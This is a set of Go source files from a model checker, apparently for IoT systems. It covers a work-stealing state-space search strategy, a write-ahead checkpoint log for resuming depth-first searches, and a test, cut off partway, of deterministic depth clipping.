			r.e.opts.Budget.Release()
			return
		}
		r.spawn(idx, true)
		return
	}
}

// retireAfter is the number of consecutive futile scavenge passes (own
// deque empty, nothing stealable) after which a dynamically grown
// worker retires and returns its token to the shared budget, instead
// of spin-holding capacity a sibling group's admission could use.
const retireAfter = 128

// Futile-scavenge backoff: a worker that cannot retire (fixed crew or
// admission worker) sleeps between scavenge passes once the futile
// streak passes retireAfter, starting short — the tail is often one
// in-flight expansion away from ending — and doubling up to a cap so a
// long convergence tail neither burns a core nor oversleeps the wakeup.
const (
	scavengeSleepBase = 2 * time.Microsecond
	scavengeSleepMax  = 256 * time.Microsecond
)

// getEntry draws a deque entry from worker w's free-list. Owner-only.
func (r *stealRun) getEntry(w int, st State, d digest) *stealEntry {
	p := &r.pools[w]
	if n := len(p.free); n > 0 {
		ent := p.free[n-1]
		p.free = p.free[:n-1]
		ent.state, ent.d = st, d
		return ent
	}
	return &stealEntry{state: st, d: d}
}

// putEntry recycles a consumed entry into worker w's free-list. Safe
// immediately after consumption: the top-CAS arbitration guarantees no
// other worker will ever dereference this entry object again (a stale
// pointer to it can still be loaded from a ring slot, but its holder's
// CAS is doomed). Owner-only.
//
//iotsan:retires ent
func (r *stealRun) putEntry(w int, ent *stealEntry) {
	ent.state = nil
	r.pools[w].free = append(r.pools[w].free, ent)
}

// wsCtx is one worker's expansion context. The enqueue/duplicate hooks
// are bound once per worker (not per expansion — the hot path must not
// allocate closures) and read the per-expansion fields from here.
type wsCtx struct {
	r          *stealRun
	w          int
	sc         *statCell
	sent       int64 // running mirror of cnts[w].sent
	childDepth int
	epoch      uint64 // epoch pinned before the current entry was consumed
	enq        func(State, digest)
	dup        func(State, digest) bool
}

// pushState counts and enqueues one newly stored state. The sent store
// strictly precedes the push becoming stealable, which is what keeps
// the done-sum ≤ sent-sum termination invariant.
func (c *wsCtx) pushState(st State, d digest) {
	c.sent++
	c.r.cnts[c.w].sent.Store(c.sent)
	c.r.deques[c.w].push(c.r.getEntry(c.w, st, d))
}

// relaxDup is the duplicate hook when depth relaxation is on: a
// re-encountered successor whose depth improves is re-enqueued so the
// shorter distance propagates; the entry is then live (kept).
func (c *wsCtx) relaxDup(st State, d digest) bool {
	if c.r.parents.relax(d.h1, int32(c.childDepth)) {
		c.pushState(st, d)
		return true
	}
	return false
}

// work is one worker's main loop: drain the own deque LIFO, steal FIFO
// when dry, exit on global termination or a hit limit. ownsToken
// workers additionally retire when persistently idle.
func (r *stealRun) work(w int, ownsToken bool) {
	e := r.e
	bufp := e.getBuf()
	defer e.putBuf(bufp)
	buf := *bufp
	defer func() { *bufp = buf }()

	var sc statCell
	defer sc.flush(e)

	c := &wsCtx{r: r, w: w, sc: &sc, sent: r.cnts[w].sent.Load()}
	c.enq = c.pushState
	c.dup = c.relaxDup
	if r.relaxOff {
		// Depth relaxation re-expands states, which must replay exactly
		// the transitions the counted expansion explored. With an
		// uncertified POR reducer the engine's visited-state proviso
		// makes expansion store-dependent — a replay could diverge from
		// the counted graph — so relaxation is disabled there (clipping
		// then keeps the first-path semantics for that combination
		// only). Certified reducers are pure functions of the state and
		// replay identically. Symmetry reduction disables relaxation
		// for the same reason in a different guise: a duplicate hit is
		// then only *isomorphic* to the stored representative, not
		// byte-identical, so re-expanding the duplicate raw state would
		// record parent edges and trail steps whose replay keys do not
		// stitch onto the representative's chain — counter-examples
		// would stop being concrete executions.
		c.dup = nil
	}
	done := r.cnts[w].done.Load()
	if r.reclaim != nil {
		r.reclaim.online(w)
	}
	offline := func() {
		if r.reclaim != nil {
			r.reclaim.offline(w)
		}
	}

	// Victim scan order: a per-worker xorshift sequence so idle workers
	// spread their steal attempts instead of convoying on worker 0.
	rng := uint64(w)*0x9e3779b97f4a7c15 + 0x2545f4914f6cdd1d

	idle := 0
	sleep := scavengeSleepBase
	for {
		if e.truncated.Load() {
			offline()
			return // another worker hit a limit; abandon the search
		}
		if r.reclaim != nil {
			// Quiescent point: no frontier references are held here.
			c.epoch = r.reclaim.pin(w)
			r.reclaim.tryAdvance()
		}
		ent := r.deques[w].pop()
		if ent == nil {
			ent = r.stealFrom(w, &rng)
		}
		if ent == nil {
			if r.quiescent() {
				offline()
				return // every pushed state fully expanded: search done
			}
			idle++
			if idle >= retireAfter {
				if ownsToken {
					// Retire: go offline first, then publish the deque
					// index (after the last deque touch above) so a
					// future grow can reuse the slot without sharing it;
					// the spawn wrapper releases the token.
					offline()
					r.freeMu.Lock()
					r.freeIdx = append(r.freeIdx, w)
					r.freeMu.Unlock()
					r.live.Add(-1)
					return
				}
				// Fixed-crew and admission workers cannot retire (the
				// search needs at least one worker alive), but a long
				// futile streak means the tail is one in-flight
				// expansion elsewhere — back off with doubling sleeps
				// instead of burning a core on Gosched spins.
				time.Sleep(sleep)
				if sleep < scavengeSleepMax {
					sleep *= 2
				}
				continue
			}
			runtime.Gosched()
			continue
		}
		idle, sleep = 0, scavengeSleepBase
		// Consult the limits before every expansion (the engine contract:
		// after every explored state, not once per violation) — Stop
		// cancellation and Deadline must interrupt even a convergence
		// tail where expansions store nothing new.
		if e.limitHit() {
			e.truncated.Store(true)
			offline()
			return
		}
		buf = r.expand(ent, c, buf)
		done++
		r.cnts[w].done.Store(done)
		r.maybeGrow()
	}
}

// stealFrom makes one randomized pass over the other workers' deques,
// returning the first entry successfully stolen.
func (r *stealRun) stealFrom(w int, rng *uint64) *stealEntry {
	n := len(r.deques)
	if n == 1 {
		return nil
	}
	*rng ^= *rng << 13
	*rng ^= *rng >> 7
	*rng ^= *rng << 17
	start := int(*rng % uint64(n))
	for i := 0; i < n; i++ {
		v := start + i
		if v >= n {
			v -= n
		}
		if v == w {
			continue
		}
		for {
			ent, retry := r.deques[v].steal()
			if ent != nil {
				return ent
			}
			if !retry {
				break // observed empty; next victim
			}
		}
	}
	return nil
}

// retireState hands a consumed, fully expanded state to the
// reclamation layer together with its digest — the spill candidate the
// tiered store evicts in epoch order (the root is exempt: trail replay
// starts from it).
//
//iotsan:retires st
func (r *stealRun) retireState(w int, epoch uint64, st State, d digest) {
	if r.reclaim == nil || st == r.parents.rootState {
		return
	}
	r.reclaim.retire(w, epoch, st, d)
}

// expand processes one entry through the shared expansion path,
// pushing newly stored successors onto the worker's own deque. A
// re-encountered successor whose depth improves is re-enqueued so the
// shorter distance propagates; the parent store's expanded claim
// arbitrates so exactly one expansion of each state contributes to the
// counters, and the propagation passes run count-suppressed. The
// consumed entry object returns to the worker's free-list, and the
// consumed state is retired under the worker's pinned epoch unless a
// limit truncated the expansion (unconsumed successors then keep it
// conservative).
func (r *stealRun) expand(ent *stealEntry, c *wsCtx, buf []byte) []byte {
	e := r.e
	depth, count := r.parents.claimExpansion(ent.d.h1, int32(e.opts.MaxDepth))
	if int(depth) >= e.opts.MaxDepth {
		// States at the depth bound exist but are not expanded — the
		// same truncation point as the DFS and level-synchronous
		// strategies. Clipping is not a global abort: shallower entries
		// still queued elsewhere continue to be expanded, and the final
		// depth scan marks the result truncated once the search drains
		// (unless a shorter path later relaxes this state below the
		// bound and re-enqueues it — via the duplicate clone the onDup
		// hook is handed, never this one, so this clone has left every
		// live structure and can retire).
		st, d := ent.state, ent.d
		r.putEntry(c.w, ent)
		r.retireState(c.w, c.epoch, st, d)
		return buf
	}
	c.childDepth = int(depth) + 1
	buf, ok := expandShared(e, r.parents, ent.state, ent.d.h1, c.childDepth, buf, count, c.sc, c.enq, c.dup)
	if ok {
		r.retireState(c.w, c.epoch, ent.state, ent.d)
	}
	r.putEntry(c.w, ent)
	return buf
}
