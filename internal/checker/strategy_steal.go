package checker

import (
	"runtime"
	"sync"
	"sync/atomic"
	"time"
)

// workSteal is the work-stealing frontier strategy. Where
// StrategyParallel is level-synchronous — every BFS level ends in a
// full merge barrier that idles workers on irregular state graphs —
// workSteal gives each worker a private Chase–Lev deque: the owner
// pushes and pops newly stored states LIFO (locally depth-first), and
// a worker whose deque runs dry steals the oldest entry FIFO from a
// victim. No worker ever waits at a barrier; the only global
// synchronisation is the sharded visited store (shared with
// StrategyParallel) and a pending-state counter used for termination
// detection.
//
// Termination: pending counts states that have been pushed to some
// deque but not yet fully expanded. A worker that finds every deque
// empty re-checks pending — zero means no entry exists anywhere and no
// expansion is in flight that could produce one, so the search is
// complete and all workers exit.
//
// Like StrategyParallel, trails are reconstructed through the shared
// parent-link table. Each stored state's depth starts as the length of
// whichever path stored it first and is then lowered (CAS-min in the
// parent store) every time a shorter path re-encounters the state; a
// state whose depth improves is re-enqueued so the shorter distance
// propagates to its descendants — a relaxation pass whose expansions
// run with the matched counter suppressed, so exploration statistics
// stay identical to a run that found the minimal depths first. The
// final depth table is therefore the shortest-distance fixpoint,
// independent of exploration order: MaxDepth clips expansion at the
// same bound as the other strategies (states at the bound are stored
// but not expanded), and both Truncated and MaxDepthReached are
// computed from the final table after the search drains, so
// depth-clipped searches report deterministic results instead of
// "whichever path stored it first".
//
// Under a shared WorkerBudget (Options.Budget), the search starts with
// the single admission token its caller holds and grows workers
// dynamically: after an expansion leaves surplus work queued, the
// worker tries to claim a spare token and spawns a sibling. A grown
// worker that stays idle for retireAfter scavenge passes retires and
// returns its token immediately — it does not spin-hold capacity a
// sibling group could admit on — and every claimed token is released
// by the time the search ends, so budget freed by one finished group
// flows to groups that still have work.
type workSteal struct {
	workers int
}

// stealEntry is one state awaiting expansion; its digest keys the
// parent-link table, which also carries the state's (minimal known)
// depth — entries deliberately do not cache the depth, so a pop always
// expands at the freshest distance.
type stealEntry struct {
	state State
	d     digest
}

// stealRun is the shared state of one work-stealing search.
type stealRun struct {
	e       *engine
	parents *parentStore
	deques  []*wsDeque
	pending atomic.Int64 // states pushed but not yet fully expanded
	live    atomic.Int32 // workers currently running (crew-size check)
	nextIdx atomic.Int32 // monotonic worker-index allocator
	max     int
	wg      sync.WaitGroup

	// freeMu guards freeIdx, the deque indices of retired workers. A
	// retiring worker publishes its index here strictly after its last
	// deque operation, so a replacement spawned under the same index
	// never shares ownership with it.
	freeMu  sync.Mutex
	freeIdx []int
}

func (s *workSteal) search(e *engine) {
	max := s.workers
	if max <= 0 {
		max = runtime.GOMAXPROCS(0)
	}

	init, d0 := e.visitInitial()
	if e.limitHit() {
		e.truncated.Store(true)
		return
	}

	r := &stealRun{
		e:       e,
		parents: newParentStore(d0.h1, init),
		deques:  make([]*wsDeque, max),
		max:     max,
	}
	for i := range r.deques {
		r.deques[i] = newWSDeque()
	}
	r.pending.Store(1)
	r.deques[0].push(&stealEntry{state: init, d: d0})

	if e.opts.Budget == nil {
		// Fixed crew: all workers up front.
		r.live.Store(int32(max))
		r.nextIdx.Store(int32(max))
		for w := 0; w < max; w++ {
			r.spawn(w, false)
		}
	} else {
		// Worker 0 rides the admission token the caller already holds;
		// the rest are claimed dynamically from the shared budget.
		r.live.Store(1)
		r.nextIdx.Store(1)
		r.spawn(0, false)
	}
	r.wg.Wait()
	// Clipping and the reported depth come from the final depth table —
	// the shortest-distance fixpoint — not from per-path bookkeeping, so
	// depth-clipped searches are deterministic across runs and worker
	// counts.
	maxd, clipped := r.parents.scan(int32(e.opts.MaxDepth))
	if clipped {
		e.truncated.Store(true)
	}
	e.maxDepth.Store(int64(maxd))
}

// spawn starts worker w. ownsToken marks workers holding a
// dynamically claimed budget token, which they release on exit.
func (r *stealRun) spawn(w int, ownsToken bool) {
	r.wg.Add(1)
	go func() {
		defer r.wg.Done()
		if ownsToken {
			defer r.e.opts.Budget.Release()
		}
		r.work(w, ownsToken)
	}()
}

// maybeGrow claims one spare budget token and spawns an extra worker
// when queued work exceeds the crew that could be expanding it.
func (r *stealRun) maybeGrow() {
	if r.e.opts.Budget == nil {
		return
	}
	for {
		l := r.live.Load()
		if int(l) >= r.max || r.pending.Load() <= int64(l)+1 {
			return
		}
		if !r.e.opts.Budget.TryAcquire() {
			return
		}
		if !r.live.CompareAndSwap(l, l+1) {
			// Lost the crew-count race; return the token and re-evaluate.
			r.e.opts.Budget.Release()
			continue
		}
		// Allocate a deque index: prefer one freed by a retired worker,
		// else a fresh slot.
		idx := -1
		r.freeMu.Lock()
		if n := len(r.freeIdx); n > 0 {
			idx = r.freeIdx[n-1]
			r.freeIdx = r.freeIdx[:n-1]
		}
		r.freeMu.Unlock()
		if idx < 0 {
			if fresh := int(r.nextIdx.Add(1)) - 1; fresh < r.max {
				idx = fresh
			} else {
				r.nextIdx.Add(-1)
			}
		}
		if idx < 0 {
			// Concurrent grows transiently exhausted the index space;
			// undo and let a later surplus try again.
			r.live.Add(-1)
			r.e.opts.Budget.Release()
			return
		}
		r.spawn(idx, true)
		return
	}
}

// retireAfter is the number of consecutive futile scavenge passes (own
// deque empty, nothing stealable) after which a dynamically grown
// worker retires and returns its token to the shared budget, instead
// of spin-holding capacity a sibling group's admission could use.
const retireAfter = 128

// work is one worker's main loop: drain the own deque LIFO, steal FIFO
// when dry, exit on global termination or a hit limit. ownsToken
// workers additionally retire when persistently idle.
func (r *stealRun) work(w int, ownsToken bool) {
	e := r.e
	bufp := e.getBuf()
	defer e.putBuf(bufp)
	buf := *bufp
	defer func() { *bufp = buf }()

	// Victim scan order: a per-worker xorshift sequence so idle workers
	// spread their steal attempts instead of convoying on worker 0.
	rng := uint64(w)*0x9e3779b97f4a7c15 + 0x2545f4914f6cdd1d

	idle := 0
	for {
		if e.truncated.Load() {
			return // another worker hit a limit; abandon the search
		}
		ent := r.deques[w].pop()
		if ent == nil {
			ent = r.stealFrom(w, &rng)
		}
		if ent == nil {
			if r.pending.Load() == 0 {
				return // every deque empty and no expansion in flight
			}
			idle++
			if idle >= retireAfter {
				if ownsToken {
					// Retire: publish the deque index (after the last
					// deque touch above) so a future grow can reuse it,
					// then leave the crew; the spawn wrapper releases
					// the token.
					r.freeMu.Lock()
					r.freeIdx = append(r.freeIdx, w)
					r.freeMu.Unlock()
					r.live.Add(-1)
					return
				}
				// Fixed-crew and admission workers cannot retire (the
				// search needs at least one worker alive), but a long
				// futile streak means the tail is one in-flight
				// expansion elsewhere — sleep instead of burning a core
				// on Gosched spins.
				time.Sleep(20 * time.Microsecond)
				continue
			}
			runtime.Gosched()
			continue
		}
		idle = 0
		// Consult the limits before every expansion (the engine contract:
		// after every explored state, not once per violation) — Stop
		// cancellation and Deadline must interrupt even a convergence
		// tail where expansions store nothing new.
		if e.limitHit() {
			e.truncated.Store(true)
			return
		}
		buf = r.expand(ent, w, buf)
		r.pending.Add(-1)
		r.maybeGrow()
	}
}

// stealFrom makes one randomized pass over the other workers' deques,
// returning the first entry successfully stolen.
func (r *stealRun) stealFrom(w int, rng *uint64) *stealEntry {
	n := len(r.deques)
	if n == 1 {
		return nil
	}
	*rng ^= *rng << 13
	*rng ^= *rng >> 7
	*rng ^= *rng << 17
	start := int(*rng % uint64(n))
	for i := 0; i < n; i++ {
		v := start + i
		if v >= n {
			v -= n
		}
		if v == w {
			continue
		}
		for {
			ent, retry := r.deques[v].steal()
			if ent != nil {
				return ent
			}
			if !retry {
				break // observed empty; next victim
			}
		}
	}
	return nil
}

// expand processes one entry through the shared expansion path,
// pushing newly stored successors onto the worker's own deque. A
// re-encountered successor whose depth improves is re-enqueued so the
// shorter distance propagates; the parent store's expanded claim
// arbitrates so exactly one expansion of each state contributes to the
// counters, and the propagation passes run count-suppressed.
func (r *stealRun) expand(ent *stealEntry, w int, buf []byte) []byte {
	e := r.e
	depth, count := r.parents.claimExpansion(ent.d.h1, int32(e.opts.MaxDepth))
	if int(depth) >= e.opts.MaxDepth {
		// States at the depth bound exist but are not expanded — the
		// same truncation point as the DFS and level-synchronous
		// strategies. Clipping is not a global abort: shallower entries
		// still queued elsewhere continue to be expanded, and the final
		// depth scan marks the result truncated once the search drains
		// (unless a shorter path later relaxes this state below the
		// bound and re-enqueues it).
		return buf
	}
	childDepth := int(depth) + 1
	// Depth relaxation re-expands states, which must replay exactly the
	// transitions the counted expansion explored. With an uncertified
	// POR reducer the engine's visited-state proviso makes expansion
	// store-dependent — a replay could diverge from the counted graph —
	// so relaxation is disabled there (clipping then keeps the
	// first-path semantics for that combination only). Certified
	// reducers are pure functions of the state and replay identically.
	// Symmetry reduction disables relaxation for the same reason in a
	// different guise: a duplicate hit is then only *isomorphic* to the
	// stored representative, not byte-identical, so re-expanding the
	// duplicate raw state would record parent edges and trail steps
	// whose replay keys do not stitch onto the representative's chain —
	// counter-examples would stop being concrete executions.
	onDup := func(st State, d digest) {
		if r.parents.relax(d.h1, int32(childDepth)) {
			r.pending.Add(1)
			r.deques[w].push(&stealEntry{state: st, d: d})
		}
	}
	if (e.reducer != nil && !e.certified) || e.canon != nil {
		onDup = nil
	}
	buf, _ = expandShared(e, r.parents, ent.state, ent.d.h1, childDepth, buf, count,
		func(st State, d digest) {
			r.pending.Add(1)
			r.deques[w].push(&stealEntry{state: st, d: d})
		},
		onDup)
	return buf
}
