package checker

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/gob"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
)

// Write-ahead checkpoint log for the sequential DFS.
//
// The WAL is the one durable artifact of a tiered-store run (the tier
// files are per-run scratch). Its record stream is:
//
//	H  header: magic + a fingerprint of the options that shape the
//	   explored graph; a resume under different options starts fresh.
//	V  visit batch: the (h1, h2) digests newly admitted to the visited
//	   store since the previous checkpoint, tagged with the sequence
//	   number of the checkpoint they belong to.
//	C  checkpoint: counters, the distinct violations found so far
//	   (trails fully materialized — strings only), and the DFS stack as
//	   one next-index per frame plus the frame state delta-encoded
//	   against its parent frame as (dirty mask, dirty block bytes).
//
// Every record is CRC-framed, and a V batch is written immediately
// before its C record, so a kill at any byte offset leaves a prefix
// that scans cleanly up to the last complete checkpoint: visits tagged
// beyond it are discarded (re-execution re-logs them) and the file is
// truncated back to that point before appending resumes.
//
// Resume does not decode states from bytes — the state encoding is
// deliberately lossy (CmdRec attribute/value strings and Time are not
// part of the state vector), so spilled vectors cannot reconstruct
// State objects. Instead the stack is rebuilt by deterministic
// re-expansion from the initial state along the recorded next-indices
// (the DFS invariant: a non-top frame's edge to its child is
// succs[next-1]), and the spilled delta vectors serve as the
// end-to-end integrity check: DeltaApply(parent, delta) must reproduce
// the re-expanded child's encoding byte for byte. Any mismatch — a
// model change, a corrupt record — abandons the resume and starts
// fresh, which is always sound.

const (
	walMagic = "IOTSANWAL1"
	walName  = "wal.log"

	recHeader = 'H'
	recVisits = 'V'
	recCkpt   = 'C'

	defaultCheckpointEvery = 4096
)

// ckptData is the gob-encoded checkpoint payload.
type ckptData struct {
	Seq                                int64
	Explored, Matched, MaxDepth        int64
	PORChoices, PORPruned, PORFallback int64
	FaultTrs                           int64
	Violations                         []walFound
	Frames                             []walFrame
}

type walFound struct {
	Property, Detail string
	Depth            int
	Trail            []walStep
}

type walStep struct {
	Label string
	Steps []string
}

// walFrame is one DFS stack frame: the frame's next-index and its
// state spilled delta-encoded against the parent frame (Full marks a
// flat encoding — frame 0, and every frame on systems without the
// block-delta codec).
type walFrame struct {
	Next  int
	Delta []byte
	Full  bool
}

type wal struct {
	f     *os.File
	path  string
	seq   int64
	every int

	// pending buffers digests admitted to the store since the last
	// checkpoint; flushed as one V batch per checkpoint.
	pending []digest

	lastCkptExplored int64

	// Resume payload (consumed by sequentialDFS, nil after).
	resumeCk     *ckptData
	resumeVisits []digest

	bytes       int64
	checkpoints int64
	resumed     bool
}

// walFingerprint serializes the options that determine the explored
// graph. Limits (MaxStates, Deadline, MaxViolations) are deliberately
// excluded: killing a run under one budget and resuming under another
// is the whole point.
func walFingerprint(opts Options) []byte {
	return []byte(fmt.Sprintf("%s store=%d depth=%d por=%v sym=%v nodedup=%v",
		walMagic, opts.Store, opts.MaxDepth, opts.POR, opts.Symmetry, opts.NoDedup))
}

func newWAL(opts Options, haveDelta bool) (*wal, error) {
	w := &wal{path: filepath.Join(opts.StoreDir, walName), every: opts.CheckpointEvery}
	if w.every <= 0 {
		w.every = defaultCheckpointEvery
	}
	if err := os.MkdirAll(opts.StoreDir, 0o755); err != nil {
		return nil, fmt.Errorf("checker: checkpoint WAL: %w", err)
	}
	fpr := walFingerprint(opts)
	if opts.Resume {
		if f, err := os.OpenFile(w.path, os.O_RDWR, 0o644); err == nil {
			ck, visits, validEnd, serr := scanWAL(f, fpr)
			if serr == nil && ck != nil {
				if terr := f.Truncate(validEnd); terr == nil {
					if _, serr := f.Seek(validEnd, io.SeekStart); serr == nil {
						w.f = f
						w.seq = ck.Seq
						w.resumeCk = ck
						w.resumeVisits = visits
						return w, nil
					}
				}
			}
			f.Close()
		}
	}
	if err := w.reset(fpr); err != nil {
		return nil, err
	}
	return w, nil
}

// reset starts (or restarts, when a resume is abandoned) an empty WAL.
func (w *wal) reset(fpr []byte) error {
	if w.f != nil {
		w.f.Close()
	}
	f, err := os.Create(w.path)
	if err != nil {
		return fmt.Errorf("checker: checkpoint WAL: %w", err)
	}
	w.f = f
	w.seq = 0
	w.pending = w.pending[:0]
	w.lastCkptExplored = 0
	w.resumeCk, w.resumeVisits = nil, nil
	return w.writeRecord(recHeader, fpr)
}

func (w *wal) close() {
	if w.f != nil {
		w.f.Close()
		w.f = nil
	}
}

// writeRecord frames and appends one record: type byte, uvarint
// payload length, payload, CRC32(type ∥ payload).
func (w *wal) writeRecord(typ byte, payload []byte) error {
	var hdr [binary.MaxVarintLen64 + 1]byte
	hdr[0] = typ
	n := binary.PutUvarint(hdr[1:], uint64(len(payload))) + 1
	// Package-level crc32 (not a hash.Hash): the digest funnel guards
	// state hashing, and this checksums log framing, not state bytes.
	crc := crc32.ChecksumIEEE(hdr[:1])
	crc = crc32.Update(crc, crc32.IEEETable, payload)
	var tail [4]byte
	binary.LittleEndian.PutUint32(tail[:], crc)
	for _, b := range [][]byte{hdr[:n], payload, tail[:]} {
		if _, err := w.f.Write(b); err != nil {
			return err
		}
		w.bytes += int64(len(b))
	}
	return nil
}

// maybeCheckpoint appends a (visits, checkpoint) pair when enough new
// states have been explored since the last one. Called at the top of
// the DFS loop, where the stack invariant (child of frame i is
// succs[next-1]) holds. Failures disarm the WAL rather than the search.
func (w *wal) maybeCheckpoint(e *engine, stack []dfsFrame, buf []byte) []byte {
	explored := e.explored.Load()
	if explored-w.lastCkptExplored < int64(w.every) {
		return buf
	}
	seq := w.seq + 1

	// V batch: uvarint seq, uvarint count, count × (h1, h2) LE pairs.
	vp := make([]byte, 0, 2*binary.MaxVarintLen64+16*len(w.pending))
	vp = binary.AppendUvarint(vp, uint64(seq))
	vp = binary.AppendUvarint(vp, uint64(len(w.pending)))
	for _, d := range w.pending {
		vp = binary.LittleEndian.AppendUint64(vp, d.h1)
		vp = binary.LittleEndian.AppendUint64(vp, d.h2)
	}

	ck := ckptData{
		Seq:         seq,
		Explored:    explored,
		Matched:     e.matched.Load(),
		MaxDepth:    e.maxDepth.Load(),
		PORChoices:  e.porChoices.Load(),
		PORPruned:   e.porPruned.Load(),
		PORFallback: e.porFallback.Load(),
		FaultTrs:    e.faultTrs.Load(),
	}
	for _, f := range e.found {
		wf := walFound{Property: f.Property, Detail: f.Detail, Depth: f.Depth}
		for _, st := range f.Trail {
			wf.Trail = append(wf.Trail, walStep{Label: st.Label, Steps: st.Steps})
		}
		ck.Violations = append(ck.Violations, wf)
	}
	ck.Frames, buf = snapshotFrames(e, stack, buf)

	var cb bytes.Buffer
	if err := gob.NewEncoder(&cb).Encode(&ck); err != nil {
		w.close()
		e.wal = nil
		return buf
	}
	if w.writeRecord(recVisits, vp) != nil ||
		w.writeRecord(recCkpt, cb.Bytes()) != nil ||
		w.f.Sync() != nil {
		w.close()
		e.wal = nil
		return buf
	}
	w.seq = seq
	w.checkpoints++
	w.pending = w.pending[:0]
	w.lastCkptExplored = explored
	return buf
}

// snapshotFrames spills the DFS stack: frame 0 (the initial state) as
// its flat encoding, every later frame delta-encoded against its
// parent through the block codec when the system has one — a stack
// frame differs from its parent by the few blocks one transition
// dirtied, so the spill is (dirty mask, dirty block bytes) instead of
// the full vector.
func snapshotFrames(e *engine, stack []dfsFrame, buf []byte) ([]walFrame, []byte) {
	frames := make([]walFrame, len(stack))
	for i := range stack {
		frames[i].Next = stack[i].next
		switch {
		case i == 0 || e.delta == nil:
			buf = stack[i].state.Encode(buf[:0])
			frames[i].Full = true
		default:
			buf = e.delta.DeltaEncode(stack[i].state, stack[i-1].state, buf[:0])
		}
		frames[i].Delta = append([]byte(nil), buf...)
	}
	return frames, buf
}

// scanWAL reads the record stream, tolerating arbitrary truncation:
// it returns the last complete checkpoint, the visit digests of every
// batch belonging to it or an earlier checkpoint, and the byte offset
// just past the checkpoint record (the point to truncate back to). A
// missing or mismatched header, or no complete checkpoint, yields a
// nil checkpoint — the caller starts fresh.
func scanWAL(f *os.File, fpr []byte) (*ckptData, []digest, int64, error) {
	if _, err := f.Seek(0, io.SeekStart); err != nil {
		return nil, nil, 0, err
	}
	br := bufio.NewReader(f)
	var off int64

	readRecord := func() (byte, []byte, bool) {
		typ, err := br.ReadByte()
		if err != nil {
			return 0, nil, false
		}
		n := int64(1)
		plen, err := binary.ReadUvarint(br)
		if err != nil || plen > 1<<30 {
			return 0, nil, false
		}
		n += int64(uvarintLen(plen))
		payload := make([]byte, plen)
		if _, err := io.ReadFull(br, payload); err != nil {
			return 0, nil, false
		}
		n += int64(plen)
		var tail [4]byte
		if _, err := io.ReadFull(br, tail[:]); err != nil {
			return 0, nil, false
		}
		n += 4
		crc := crc32.ChecksumIEEE([]byte{typ})
		crc = crc32.Update(crc, crc32.IEEETable, payload)
		if crc != binary.LittleEndian.Uint32(tail[:]) {
			return 0, nil, false
		}
		off += n
		return typ, payload, true
	}

	typ, payload, ok := readRecord()
	if !ok || typ != recHeader || !bytes.Equal(payload, fpr) {
		return nil, nil, 0, nil
	}

	var batches []vbatch
	var last *ckptData
	var lastEnd int64
	for {
		typ, payload, ok := readRecord()
		if !ok {
			break
		}
		switch typ {
		case recVisits:
			seq, n := binary.Uvarint(payload)
			if n <= 0 {
				return nil, nil, 0, nil
			}
			cnt, m := binary.Uvarint(payload[n:])
			rest := payload[n+m:]
			if m <= 0 || uint64(len(rest)) != cnt*16 {
				return nil, nil, 0, nil
			}
			b := vbatch{seq: int64(seq), digests: make([]digest, 0, cnt)}
			for i := uint64(0); i < cnt; i++ {
				b.digests = append(b.digests, digest{
					h1: binary.LittleEndian.Uint64(rest[i*16:]),
					h2: binary.LittleEndian.Uint64(rest[i*16+8:]),
				})
			}
			batches = append(batches, b)
		case recCkpt:
			var ck ckptData
			if err := gob.NewDecoder(bytes.NewReader(payload)).Decode(&ck); err != nil {
				return last, flattenBatches(batches, last), lastEnd, nil
			}
			last = &ck
			lastEnd = off
		}
	}
	return last, flattenBatches(batches, last), lastEnd, nil
}

// vbatch is one scanned V record: a visit batch tagged with the
// checkpoint sequence it belongs to.
type vbatch struct {
	seq     int64
	digests []digest
}

// flattenBatches concatenates the visit batches committed by the last
// intact checkpoint (seq ≤ ck.Seq); trailing batches belong to a
// checkpoint that never landed and are re-logged by re-execution.
func flattenBatches(batches []vbatch, ck *ckptData) []digest {
	if ck == nil {
		return nil
	}
	var out []digest
	for _, b := range batches {
		if b.seq <= ck.Seq {
			out = append(out, b.digests...)
		}
	}
	return out
}

func uvarintLen(v uint64) int {
	n := 1
	for v >= 0x80 {
		v >>= 7
		n++
	}
	return n
}
