package checker

import (
	"fmt"
	"testing"
)

// diamondSys is a diamond with unequal arms joining at X, plus a chain
// hanging off X: root→A1→…→A8→X, root→B1→X, X→C1→…→C4. Expand lists
// the B arm first, so a LIFO (depth-first) order explores the long A
// arm before the B shortcut: X is first stored at depth 9 even though
// its minimal depth is 2. With MaxDepth 10 the chain then appears
// clipped to a first-path search, while the minimal-depth space (max
// depth 8, on the A arm) fits entirely under the bound.
type diamondSys struct{ aLen, cLen int }

// Diamond state codes: 0 root, 1..aLen the A arm, 100 B1, 200 X,
// 200+k the chain.
func (d *diamondSys) Initial() State { return intState(0) }

func (d *diamondSys) Expand(s State) []Transition {
	step := func(v int) Transition {
		return Transition{Label: fmt.Sprintf("to-%d", v), Next: intState(v)}
	}
	switch v := int(s.(intState)); {
	case v == 0:
		return []Transition{step(100), step(1)} // B pushed first, A popped first (LIFO)
	case v >= 1 && v < d.aLen:
		return []Transition{step(v + 1)}
	case v == d.aLen:
		return []Transition{step(200)}
	case v == 100:
		return []Transition{step(200)}
	case v >= 200 && v < 200+d.cLen:
		return []Transition{step(v + 1)}
	}
	return nil
}

func (d *diamondSys) Inspect(State) []Violation { return nil }

// TestStealDepthClippingDeterministic: on a depth-clipped search the
// steal strategy's Truncated and MaxDepthReached must be derived from
// minimal depths — independent of which path stored a state first —
// and therefore stable across runs and worker counts, and equal to the
// level-synchronous strategy's (whose levels are minimal by
// construction). Before depth relaxation, a first-path order that
// reached X through the long arm recorded the chain beyond the bound
// and reported Truncated on a space that fits under it.
func TestStealDepthClippingDeterministic(t *testing.T) {
	sys := &diamondSys{aLen: 8, cLen: 4}
	const wantStates = 15 // root + A1..A8 + B1 + X + C1..C4

	bfs := Run(sys, Options{MaxDepth: 10, Strategy: StrategyParallel})
	if bfs.Truncated {
		t.Fatalf("level-synchronous reference run truncated; minimal depths fit the bound")
	}
	if bfs.StatesExplored != wantStates {
		t.Fatalf("reference explored %d states, want %d", bfs.StatesExplored, wantStates)
	}

	for _, workers := range []int{1, 4} {
		for run := 0; run < 10; run++ {
			res := Run(sys, Options{MaxDepth: 10, Strategy: StrategySteal, Workers: workers})
			if res.Truncated {
				t.Fatalf("workers=%d run=%d: truncated on a space whose minimal depths fit the bound", workers, run)
			}
			if res.StatesExplored != wantStates {
				t.Errorf("workers=%d run=%d: explored %d states, want %d", workers, run, res.StatesExplored, wantStates)
			}
